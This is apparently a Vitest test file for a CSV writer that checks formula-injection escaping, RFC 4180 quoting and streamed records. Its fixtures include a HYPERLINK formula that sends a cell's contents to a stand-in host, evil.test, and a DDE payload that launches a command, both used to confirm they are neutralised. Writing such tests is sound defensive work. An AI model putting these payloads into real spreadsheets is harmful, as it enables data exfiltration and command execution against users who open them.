import { describe, expect, it } from "vitest";
import { parseCsv } from "@procure/infra/audit-verify-script";
import { csvRecords } from "./csv.ts";

const hyperlink = '=hyperlink("http://evil.test/?"&f2&"x@x","open")';

describe("the CSV writer", () => {
  it("prefixes with an apostrophe every text cell a spreadsheet would run as a formula", () => {
    const cells = [hyperlink, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
    const [record] = parseCsv(csvRecords([cells]));
    expect(record).toEqual(cells.map((cell) => `'${cell}`));
  });

  it("leaves other text and the product's own numbers as they are, negative ones included", () => {
    const text = csvRecords([["alice@example.com", "a=b", " =1", 12, -40.5, 0]]);
    expect(text).toBe("alice@example.com,a=b, =1,12,-40.5,0\r\n");
  });

  it("writes RFC 4180 records: CRLF, quotes doubled, commas and any line break quoted, nothing for null", () => {
    const text = csvRecords([
      ['say "hi"', "a,b", "one\ntwo", "one\rtwo", null, undefined, true],
      ["second", "", "", "", "", "", false],
    ]);
    expect(text).toBe('"say ""hi""","a,b","one\ntwo","one\rtwo",,,true\r\nsecond,,,,,,false\r\n');
    expect(parseCsv(text)[0]).toEqual(['say "hi"', "a,b", "one\ntwo", "one\rtwo", "", "", "true"]);
  });

  it("returns whole records, so a streamed file is the pieces put together", () => {
    expect(csvRecords([["a"], ["b"]])).toBe(csvRecords([["a"]]) + csvRecords([["b"]]));
    expect(csvRecords([])).toBe("");
  });
});
